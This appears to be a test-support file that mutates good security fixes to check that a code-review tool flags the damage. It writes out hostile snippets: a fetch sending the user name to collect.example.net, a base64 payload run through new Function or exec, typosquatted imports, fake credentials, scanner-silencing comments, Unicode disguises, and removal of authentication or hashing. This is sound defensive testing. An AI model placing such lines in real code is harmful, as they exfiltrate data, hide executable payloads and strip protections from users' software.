import { diffLines, splitLines } from '../../src/core/diffLines';
import type { SubjectFile } from '../../src/core/evidence';
import type { GoodFix } from './goodFixes';

/** One way to spoil a good fix, and who has to see it. */
export interface Mutator {
  readonly id: string;
  /** One of these has to warn or fail. `risk` stands for the tier "forbidden". */
  readonly caughtBy: readonly string[];
  /** Undefined where the fix has nothing to spoil so. `turn` chooses among ways of writing it. */
  mutate(fix: GoodFix, turn: number): readonly SubjectFile[] | undefined;
}

export const isPython = ({ path }: SubjectFile): boolean => path.endsWith('.py');
const isTypeScript = ({ path }: SubjectFile): boolean => /\.tsx?$/.test(path);
const pick = <T>(all: readonly [T, ...T[]], turn: number): T => all[turn % all.length] ?? all[0];
const after = (file: SubjectFile, text: string | undefined): readonly SubjectFile[] | undefined =>
  text === undefined || text === file.after ? undefined : [{ ...file, after: text }];

/** Changes the line where the fix has its last added line that is code. */
function atAdded(
  { file }: GoodFix,
  change: (line: string, lines: readonly string[]) => string | undefined,
): readonly SubjectFile[] | undefined {
  const lines = splitLines(file.after);
  const hunks = diffLines(splitLines(file.before), lines);
  const added = hunks.flatMap(({ after: { start, end } }) =>
    Array.from({ length: end - start }, (_, index) => start + index),
  );
  const at = added.reverse().find((line) => /[\w)]/.test(lines[line] ?? ''));
  if (at === undefined) return undefined;
  const now = change(lines[at] ?? '', lines);
  if (now === undefined) return undefined;
  return after(file, lines.with(at, now).join('\n'));
}

/** Adds a line of code below the imports, or at the end of a file that has none. */
function withLine(file: SubjectFile, line: string): readonly SubjectFile[] | undefined {
  const lines = splitLines(file.after);
  const isImport = /^(?:import\b|from\b|const .*require\()/;
  const last = lines.findLastIndex((one) => isImport.test(one) && !/[({]\s*$/.test(one));
  const at = last < 0 ? lines.length - 1 : last + 1;
  return after(file, lines.toSpliced(at, 0, line).join('\n'));
}

const jsOrPython = (file: SubjectFile, javascript: string, python: string) =>
  withLine(file, isPython(file) ? python : javascript);

/** A piece of the line that stands there before and after. */
function swapped(
  { file }: GoodFix,
  pattern: RegExp,
  replacement: string,
): readonly SubjectFile[] | undefined {
  const kept = new Set(splitLines(file.before));
  const lines = splitLines(file.after);
  const at = lines.findIndex((line) => kept.has(line) && pattern.test(line));
  if (at < 0) return undefined;
  return after(file, lines.with(at, (lines[at] ?? '').replace(pattern, replacement)).join('\n'));
}

/** Like `swapped`, for lines that stand together in both texts. */
function emptied(
  { file }: GoodFix,
  pattern: RegExp,
  replacement: string,
): readonly SubjectFile[] | undefined {
  const [lines] = pattern.exec(file.after) ?? [];
  if (lines === undefined || !file.before.includes(lines)) return undefined;
  return after(file, file.after.replace(lines, replacement));
}

const suppressions = ['// eslint-disable-line', '// nosemgrep', '// NOSONAR'] as const;
const pythonSuppressions = ['# nosec', '# noqa: S608', '# nosemgrep'] as const;
const awsKey = ['AKIA', 'QYLPMN5HHHFPZAM2'].join('');
const gitHubToken = ['ghp', '_', 'x7Kq2mVbN9sLr4TzWc8YdPf3HgJ6aE1uQo5B'].join('');
const payload = Buffer.from("require('child_process').exec('id')").toString('base64');

/** Added lines that no fix of a flaw needs. */
const additions: readonly Mutator[] = [
  {
    id: 'suppression added',
    caughtBy: ['nothing-silenced', 'suppression-comments'],
    mutate: (fix, turn) =>
      atAdded(fix, (line) => {
        if (/[{([,\\]$|`|^\s*[*/]/.test(line)) return undefined;
        return `${line}  ${pick(isPython(fix.file) ? pythonSuppressions : suppressions, turn)}`;
      }),
  },
  {
    id: 'type check silenced',
    caughtBy: ['nothing-silenced'],
    mutate: ({ file }, turn) =>
      isTypeScript(file)
        ? withLine(file, pick(['// @ts-nocheck', '// @ts-ignore', '/* eslint-disable */'], turn))
        : undefined,
  },
  {
    id: 'unknown package',
    caughtBy: ['dependencies'],
    mutate: ({ file }) =>
      jsOrPython(
        file,
        isTypeScript(file)
          ? "import clean from 'input-scrubber-pro';"
          : "const clean = require('input-scrubber-pro');",
        'import input_scrubber_pro',
      ),
  },
  {
    id: 'look-alike package',
    caughtBy: ['dependencies'],
    mutate: ({ file }, turn) => {
      const name = pick(['expresss', 'lodahs', 'axois', 'helmett'], turn);
      return jsOrPython(
        file,
        isTypeScript(file) ? `import extra from '${name}';` : `const extra = require('${name}');`,
        `import ${pick(['reqeusts', 'djangoo', 'crpytography'], turn)}`,
      );
    },
  },
  {
    id: 'eval added',
    caughtBy: ['no-new-capability'],
    mutate: ({ file }, turn) =>
      jsOrPython(
        file,
        pick(
          [
            'const extra = eval(process.env.SHOP_EXTRA);',
            'const extra = new Function(process.env.SHOP_EXTRA)();',
          ],
          turn,
        ),
        pick(['extra = eval(os.environ["SHOP_EXTRA"])', 'exec(os.environ["SHOP_EXTRA"])'], turn),
      ),
  },
  {
    id: 'process added',
    caughtBy: ['no-new-capability'],
    mutate: ({ file }, turn) =>
      jsOrPython(
        file,
        pick(
          [
            "require('child_process').exec('uname -a');",
            "const { spawn } = require('node:child_process');\nspawn('uname', ['-a']);",
          ],
          turn,
        ),
        pick(
          ['__import__("os").system("uname -a")', 'import subprocess; subprocess.run(["uname"])'],
          turn,
        ),
      ),
  },
  {
    id: 'network added',
    caughtBy: ['no-new-capability'],
    mutate: ({ file }, turn) =>
      jsOrPython(
        file,
        pick(
          [
            "void fetch('https://collect.example.net/' + process.env.USER);",
            "new WebSocket('wss://collect.example.net');",
          ],
          turn,
        ),
        'import urllib.request; urllib.request.urlopen("https://collect.example.net/")',
      ),
  },
  {
    id: 'encoded payload',
    caughtBy: ['no-new-capability', 'hidden-text'],
    mutate: ({ file }) =>
      jsOrPython(
        file,
        `new Function(Buffer.from('${payload}', 'base64').toString())();`,
        `exec(__import__("base64").b64decode("${payload}"))`,
      ),
  },
  {
    id: 'secret added',
    caughtBy: ['no-secrets'],
    mutate: ({ file }, turn) => {
      const value = pick([awsKey, gitHubToken], turn);
      const isTs = isTypeScript(file);
      return jsOrPython(
        file,
        `${isTs ? 'export ' : ''}const accessKey = '${value}';`,
        `ACCESS_KEY = "${value}"`,
      );
    },
  },
];

/** What a diff does not show. */
const disguises: readonly Mutator[] = [
  {
    id: 'homoglyph',
    caughtBy: ['hidden-text', 'hidden-unicode'],
    mutate: (fix) =>
      atAdded(fix, (line) =>
        /[aeo]\w/.test(line) ? line.replace(/[aeo](?=\w)/, lookAlike) : undefined,
      ),
  },
  {
    id: 'bidi or zero-width',
    caughtBy: ['hidden-text', 'hidden-unicode'],
    mutate: (fix, turn) =>
      atAdded(fix, (line) =>
        line.replace(/\w(?=\w)/, `$&${pick(['\u202E', '\u200B', '\u2066', '\u2060'], turn)}`),
      ),
  },
  {
    id: 'hidden long line',
    caughtBy: ['hidden-text'],
    mutate: (fix) =>
      atAdded(
        fix,
        (line) => `${line}${' '.repeat(400)}${isPython(fix.file) ? '; x = 1' : '; var x = 1;'}`,
      ),
  },
  {
    id: 'line endings flipped',
    caughtBy: ['format', 'whitespace-only'],
    mutate: ({ file }) =>
      after(
        file,
        file.after.includes('\r\n')
          ? file.after.replace(/\r\n/g, '\n')
          : file.after.replace(/\n/g, '\r\n'),
      ),
  },
  {
    id: 'licence header dropped',
    caughtBy: ['format'],
    mutate: ({ file }) => {
      const mark = isPython(file) ? '#' : '//';
      const header = `${mark} Copyright 2024 The Shop Authors\n${mark} SPDX-License-Identifier: Apache-2.0\n`;
      return [{ ...file, before: header + file.before }];
    },
  },
  {
    id: 'syntax broken',
    caughtBy: ['new-parse-errors'],
    mutate: (fix) =>
      atAdded(fix, (line) =>
        /\)/.test(line) && !/['"`#]|\/[/*]/.test(line) ? line.replace(')', '') : undefined,
      ),
  },
];

const twins: Readonly<Record<string, string>> = { a: '\u0430', e: '\u0435', o: '\u043E' };
const lookAlike = (letter: string): string => twins[letter] ?? letter;

/** The flaw, or another one, is there after it. */
const undone: readonly Mutator[] = [
  {
    id: 'nothing but a comment',
    caughtBy: ['finding-gone'],
    mutate: ({ file, finding }) => {
      const lines = splitLines(file.before);
      const at = finding.location.region?.start.line ?? 0;
      const mark = isPython(file) ? '#' : '//';
      const indent = /^\s*/.exec(lines[at] ?? '')?.[0] ?? '';
      const text = lines
        .toSpliced(at, 0, `${indent}${mark} The value is checked by the caller.`)
        .join('\n');
      return after(file, text);
    },
  },
  {
    id: 'half reverted',
    caughtBy: [
      'finding-gone',
      'nothing-introduced',
      'nothing-removed',
      'weak-fix',
      'undefined-names',
    ],
    mutate: ({ name, file, finding }) => {
      if (holdsByHalf.some((one) => name.endsWith(one))) return undefined;
      const before = splitLines(file.before);
      const lines = splitLines(file.after);
      const hunks = diffLines(before, lines);
      const at = finding.location.region?.start.line ?? -1;
      const own = hunks.find(({ before: old }) => at >= old.start && at < old.end);
      if (!own || hunks.length < 2) return undefined;
      const old = before.slice(own.before.start, own.before.end);
      const { start, end } = own.after;
      return after(file, lines.toSpliced(start, end - start, ...old).join('\n'));
    },
  },
];

/**
 * Fixes with two halves of which each suffices, found by reading what was missed: a value that may
 * only be digits, and one of a fixed set. To take one half back spoils nothing.
 */
const holdsByHalf: readonly string[] = [
  'polls/views.py: It is a number before it is part of anything.',
  'service/hooks.py: Branches are of a known set.',
];

/** Code that both texts get at their end, for mutators that find nothing of their kind in a fix. */
const plants: Readonly<Record<'javascript' | 'python', readonly [string, ...string[]]>> = {
  javascript: [
    `
async function changePassword(user, next) {
  user.password = await bcrypt.hash(next, 12);
  await user.save();
}
`,
    `
function storeAccount(accounts, email, phrase) {
  return accounts.insert({ email, digest: security.hash(phrase), created: new Date() });
}
`,
    `
function loadProfile(request, response, next) {
  profiles.find(request.user.id).then(
    (profile) => response.json(profile),
    (error) => next(error),
  );
}
`,
    `
async function closeAccount(request, response) {
  try {
    await accounts.close(request.user.id);
    response.sendStatus(204);
  } catch (error) {
    logger.error(error);
    response.sendStatus(500);
  }
}
`,
    `
app.delete('/accounts/:id', requireUser, requireRole('admin'), async (request, response) => {
  await accounts.remove(request.params.id);
  response.sendStatus(204);
});
`,
    `
app.get('/invoices', passport.authenticate('jwt', { session: false }), (request, response) => {
  if (!request.user.isAdmin) {
    return response.sendStatus(403);
  }
  response.json(invoices.all());
});
`,
  ],
  python: [
    `

def change_password(user, phrase):
    user.password = generate_password_hash(phrase)
    user.save()
`,
    `

@app.route("/accounts/<int:pk>", methods=["DELETE"])
@login_required
def close_account(pk):
    if not current_user.is_admin:
        abort(403)
    return accounts.close(pk)
`,
    `

def load_profile(user_id):
    try:
        return profiles.find(user_id)
    except LookupError:
        logger.exception("no such profile")
        raise
`,
  ],
};

function planted({ file, ...rest }: GoodFix, turn: number): GoodFix {
  const plant = pick(plants[isPython(file) ? 'python' : 'javascript'], turn);
  return { ...rest, file: { ...file, before: file.before + plant, after: file.after + plant } };
}

/** In the fix itself, or else in what is planted beside it. */
function naturalOrPlanted(mutate: (fix: GoodFix) => readonly SubjectFile[] | undefined) {
  return (fix: GoodFix, turn: number) => {
    const natural = turn % 2 === 0 ? mutate(fix) : undefined;
    return natural ?? mutate(planted(fix, turn));
  };
}

const security = ['nothing-removed', 'weak-fix', 'finding-gone', 'nothing-introduced'];

/** Lines beside the fix that lose what they were for. Only natural ones: the text has to have them. */
const losses: readonly Mutator[] = [
  {
    id: 'guard inverted',
    caughtBy: security,
    mutate: naturalOrPlanted((fix) =>
      isPython(fix.file)
        ? (swapped(fix, /\bif not (?=\w)/, 'if ') ??
          swapped(fix, /\bif (\w[\w.]*) is None:/, 'if $1 is not None:'))
        : (swapped(fix, /\bif \(!(?=\w)/, 'if (') ??
          swapped(fix, /\bif \((.*?) !== /, 'if ($1 === ')),
    ),
  },
  {
    id: 'condition always true',
    caughtBy: security,
    mutate: (fix, turn) =>
      isPython(fix.file)
        ? swapped(fix, /\bif (.+):$/, 'if True or $1:')
        : swapped(
            fix,
            /\bif \((.+?)\) (return|\{)/,
            pick(['if (true || $1) $2', 'if (($1) || 1 === 1) $2'], turn),
          ),
  },
  {
    id: 'hash call dropped',
    caughtBy: ['nothing-removed', 'weak-fix', 'finding-gone', 'nothing-introduced'],
    mutate: naturalOrPlanted((fix) =>
      swapped(
        fix,
        /(?<!function )\b(?:await )?(?:security\.|bcrypt\.)?(?:hash|hashPassword|generate_password_hash)\(([^(),]+)(?:, 12)?\)(?! =>|:)/,
        '$1',
      ),
    ),
  },
  {
    id: 'await dropped',
    caughtBy: ['nothing-removed'],
    mutate: naturalOrPlanted((fix) =>
      isPython(fix.file) ? undefined : swapped(fix, /\bawait (?=\w)/, ''),
    ),
  },
  {
    id: 'error handler emptied',
    caughtBy: ['nothing-removed', 'weak-fix'],
    mutate: naturalOrPlanted(
      (fix) =>
        swapped(fix, /^(\s*)next\(error\);?$/, '$1') ??
        swapped(fix, /^\s*if \(error\) return next\(error\);$/, '') ??
        swapped(fix, /\(error\) => next\(error\)/, '() => {}') ??
        emptied(fix, /\{\n +logger\.error\(error\);\n +response\.sendStatus\(500\);\n +\}/, '{}') ??
        emptied(fix, /logger\.exception\("no such profile"\)\n +raise/, 'pass'),
    ),
  },
  {
    id: 'authentication dropped',
    caughtBy: ['nothing-removed'],
    mutate: naturalOrPlanted(
      (fix) =>
        swapped(fix, /, (?:requireUser|requireAdmin|requireRole\('\w+'\))(?=,)/, '') ??
        swapped(fix, /, passport\.authenticate\('jwt', \{ session: false \}\)/, '') ??
        swapped(fix, /^@(?:login_required|staff_member_required|permission_required\(.*\))$/, '') ??
        swapped(fix, /user=Depends\(current_user\)/, 'user=None'),
    ),
  },
  {
    id: 'export renamed',
    caughtBy: ['api-unchanged', 'nothing-removed'],
    mutate: (fix) =>
      isPython(fix.file)
        ? undefined
        : (swapped(fix, /^(module\.exports = \{ )(\w+)( \};)$/, '$1$2Safe: $2$3') ??
          swapped(fix, /^(export (?:async )?function )(\w+)/, '$1$2Safe') ??
          swapped(fix, /^(export const )(\w+)/, '$1$2Safe') ??
          swapped(fix, /^(exports\.)(\w+)/, '$1$2Safe')),
  },
  {
    id: 'route renamed',
    caughtBy: ['api-unchanged', 'nothing-removed'],
    mutate: (fix) =>
      isPython(fix.file)
        ? swapped(fix, /^(@\w+\.(?:route|get|post|put|delete)\("\/\w+)/, '$1-v2')
        : swapped(fix, /^((?:\w+)\.(?:get|post|put|delete)\('\/\w+)/, '$1-v2'),
  },
];

export const mutators: readonly Mutator[] = [...additions, ...disguises, ...undone, ...losses];
